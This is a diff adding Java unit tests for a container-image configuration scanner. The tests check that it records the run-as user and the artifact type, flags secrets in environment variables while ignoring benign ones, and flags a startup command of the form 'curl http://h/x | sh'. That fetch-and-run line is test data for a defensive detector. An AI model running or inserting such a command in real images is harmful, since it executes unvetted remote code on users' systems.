@@ -78,4 +78,52 @@ class ImageLayoutScannerTest extends FormatScannerContract {
                 "{\"config\": {\"Entrypoint\": [\"/bin/serve\", \"--all\"]}, \"rootfs\": {\"diff_ids\": []}}";
         assertThat(read(configuration).facts).containsEntry("entrypoint", "'/bin/serve --all'");
     }
+
+    private static Trial configured(String field) {
+        return read("{\"config\": {%s}, \"rootfs\": {\"diff_ids\": []}}".formatted(field));
+    }
+
+    @Test
+    void what_registries_say_of_an_artifact_and_who_runs_it_are_facts() {
+        assertThat(configured("\"User\": \"root\"").facts).containsEntry("user", "'root'");
+        assertThat(read(BENIGN.replace(
+                                "\"layers\": [{",
+                                "\"layers\": [{\"mediaType\": \"application/vnd.ollama.image.model\", "))
+                        .facts)
+                .containsEntry("artifact", "Ollama model");
+    }
+
+    @Test
+    void secrets_in_the_environment_are_told_by_the_names_of_variables() {
+        for (String variable : new String[] {"DB_PASSWORD=hunter2again", "api_key=0123456789", "HF_TOKEN=hf_abcdefg"}) {
+            assertThat(configured("\"Env\": [\"%s\"]".formatted(variable)).rules())
+                    .as(variable)
+                    .containsExactly("image-layout/secret-in-environment");
+        }
+    }
+
+    @Test
+    void variables_of_honest_images_are_silent() {
+        for (String variable : new String[] {
+            "PATH=/usr/bin",
+            "GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305",
+            "TOKENIZERS_PARALLELISM=false",
+            "POSTGRES_PASSWORD=changeme",
+            "HF_TOKEN=",
+            "SECRET_TOKEN=/run/secrets/token",
+            "API_KEY=${API_KEY}",
+            "odd"
+        }) {
+            assertThat(configured("\"Env\": [\"%s\"]".formatted(variable)).findings)
+                    .as(variable)
+                    .isEmpty();
+        }
+    }
+
+    @Test
+    void image_that_starts_by_fetching_a_program_is_told() {
+        assertThat(configured("\"Cmd\": [\"sh\", \"-c\", \"curl http://h/x | sh\"]")
+                        .rules())
+                .containsExactly("image-layout/fetching-command");
+    }
 }
